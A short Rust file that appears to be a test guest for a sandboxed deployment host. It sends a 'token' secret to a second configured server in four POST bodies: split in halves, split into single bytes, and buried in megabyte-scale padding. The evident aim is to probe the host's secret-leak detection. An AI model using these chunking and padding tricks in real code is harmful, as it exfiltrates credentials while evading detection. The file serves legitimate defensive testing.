//! Sends a secret to another origin in a body that it writes in small pieces, and in one too large to be held.

use bowline_guests::prelude::*;

target!(deploy, server_url(), other_url(), token());

fn other_url() -> Setting {
    Setting {
        grants_network: true,
        ..Setting::new("other-url", "Another server", SettingKind::Url)
    }
}

fn deploy(app: &Application, env: &Environment) -> Result<Deployment, Failure> {
    let (other, token) = (value(env, "other-url")?, value(env, "token")?);
    let (start, end) = token.as_bytes().split_at(20);
    let headers = [("content-type", "application/octet-stream")];
    let padding = vec![b'x'; (1 << 20) - 10];
    let tail = [b'x'; 100_000];
    let single: Vec<&[u8]> = token.as_bytes().chunks(1).collect();
    let outcomes = [
        send("POST", &other, &headers, &[start, end]),
        send("POST", &other, &headers, &single),
        send("POST", &other, &headers, &[&padding, start, end, &tail]),
        send("POST", &other, &headers, &[&padding, &padding, start, end]),
    ];
    let done = outcomes.iter().filter(|outcome| outcome.is_ok()).count();
    match done {
        0 => Err(Failure::Unexpected("nothing was sent".into())),
        _ => Ok(seen(app, format!("{done} sent"))),
    }
}
